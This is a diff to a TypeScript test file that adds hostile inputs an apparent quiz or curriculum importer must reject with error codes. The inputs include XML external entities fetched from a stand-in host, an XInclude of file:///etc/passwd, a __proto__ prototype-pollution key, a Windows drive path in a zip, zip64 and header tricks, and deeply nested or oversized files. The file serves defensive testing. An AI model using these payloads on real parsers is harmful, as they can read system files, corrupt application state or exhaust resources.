@@ -1,5 +1,5 @@
 import { zipSync } from 'fflate';
-import { madeArchive } from '../../../libs/curriculum/tests/exchange/archive-bytes.js';
+import { behind, inComment, madeArchive } from '../../../libs/curriculum/tests/exchange/archive-bytes.js';
 import { packageOf, packed } from '../../../libs/curriculum/tests/exchange/h5p-package.js';
 
 /* Files that no import may take, each with what it is told. */
@@ -16,6 +16,9 @@ const text = (words: string) => encoder.encode(words);
 const sheet = { name: 'sprint.json', content: '{"title":{"da":"Prøve"}}' };
 const zipped = (...entries: Parameters<typeof madeArchive>[0][number][]) => madeArchive(entries);
 const level = (name: string, content: string) => ({ name: `levels/${name}.json`, content });
+const note = (name: string) => ({ name: `noter/${name}.txt`, content: 'x' });
+/** Two bytes a sign, the smaller half first, with the mark that says so. */
+const utf16 = (words: string) => new Uint8Array(Buffer.from(`\ufeff${words}`, 'utf16le'));
 const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024);
 const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth);
 
@@ -37,6 +40,18 @@ const archives: [what: string, bytes: Uint8Array, code?: string][] = [
   ],
   ['an encrypted file', zipped({ ...sheet, flags: 1 })],
   ['a packing that nobody knows', zipped({ ...sheet, method: 99 })],
+  ['two archives with a list each', behind(zipped({ ...sheet, content: '{}' }), zipped(sheet))],
+  ['an archive in the comment of another', inComment(zipped({ ...sheet, content: '{}' }), zipped(sheet))],
+  ['a path on a drive', zipped(sheet, { name: 'C:/Windows/win.ini', content: 'x' })],
+  ['letters that are composed and letters that are one', zipped(sheet, note('\u00e5'), note('a\u030a'))],
+  ['a file that is a folder too', zipped(sheet, { name: 'levels', content: 'x' }, level('a', '{}'))],
+  ['a size that stands in records of zip64', zipped({ ...sheet, says: { size: 0xffffffff } })],
+  ['an end that sends to records of zip64', madeArchive([sheet], { start: 0xffffffff })],
+  ['a file that only its own header says is encrypted', zipped({ ...sheet, header: { flags: 1 } })],
+  ['a file called otherwise in its own header', zipped({ ...sheet, header: { name: 'other.json' } })],
+  ['a key twice in a sheet', zipped({ ...sheet, content: '{"title":{"da":"a"},"title":{"da":"b"}}' })],
+  ['a number past all numbers', zipped(sheet, level('a', '{"id":"a","minutes":1e999}'))],
+  ['a key that changes objects', zipped(sheet, level('a', '{"__proto__":{"polluted":true}}'))],
   ['a checksum that lies', zipped({ ...sheet, says: { crc: 1 } })],
   ['a size that lies', zipped({ ...sheet, says: { size: 5 } })],
   ['a bomb', zipSync({ 'sprint.json': zeros(60) })],
@@ -126,6 +141,50 @@ const others: HostileFile[] = [
     code: 'import-broken',
   },
   {
+    what: 'XML that hides a document type in another encoding',
+    name: 'a.xml',
+    bytes: utf16('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE q [<!ENTITY a "x">]><quiz>&a;</quiz>'),
+    code: 'import-broken',
+  },
+  {
+    what: 'XML that takes its entities from elsewhere',
+    name: 'a.xml',
+    bytes: text('<!DOCTYPE quiz [<!ENTITY % d SYSTEM "http://a.example/d.dtd"> %d;]><quiz>&x;</quiz>'),
+    code: 'import-broken',
+  },
+  {
+    what: 'XML that includes a file',
+    name: 'a.xml',
+    bytes: text(
+      '<quiz xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></quiz>',
+    ),
+    code: 'import-broken',
+  },
+  {
+    what: 'XML of a hundred thousand attributes',
+    name: 'a.xml',
+    bytes: text(`<quiz ${Array.from({ length: 100_000 }, (_, at) => `a${at}="x"`).join(' ')}/>`),
+    code: 'import-broken',
+  },
+  {
+    what: 'GIFT in one line of a megabyte of signs',
+    name: 'a.gift',
+    bytes: text('{~=#:'.repeat(200_000)),
+    code: 'import-empty',
+  },
+  {
+    what: 'a spreadsheet whose first cell has no end',
+    name: 'a.csv',
+    bytes: text(`"${'spørgsmål;'.repeat(100_000)}`),
+    code: 'import-empty',
+  },
+  {
+    what: 'a spreadsheet of ten thousand columns',
+    name: 'a.csv',
+    bytes: text(`spørgsmål;${'forkert;'.repeat(10_000)}\n`),
+    code: 'import-empty',
+  },
+  {
     what: 'XML without end',
     name: 'a.xml',
     bytes: text(`<quiz>${nested(10_000, '<a>', '</a>')}</quiz>`),
@@ -157,6 +216,18 @@ const others: HostileFile[] = [
   },
   { what: 'H5P that is no archive', name: 'a.h5p', bytes: text('PK hello'), code: 'import-broken' },
   { what: 'H5P that says not what it is', name: 'a.h5p', bytes: packed('[]', '{}'), code: 'import-broken' },
+  {
+    what: 'H5P whose content is a list',
+    name: 'a.h5p',
+    bytes: packageOf('H5P.MultiChoice', []),
+    code: 'import-broken',
+  },
+  {
+    what: 'H5P within H5P without end',
+    name: 'a.h5p',
+    bytes: packageOf('H5P.Column', `{"content":${'[{"content":'.repeat(5_000)}1${'}]'.repeat(5_000)}}`),
+    code: 'import-broken',
+  },
   {
     what: 'H5P whose content is no JSON',
     name: 'a.h5p',
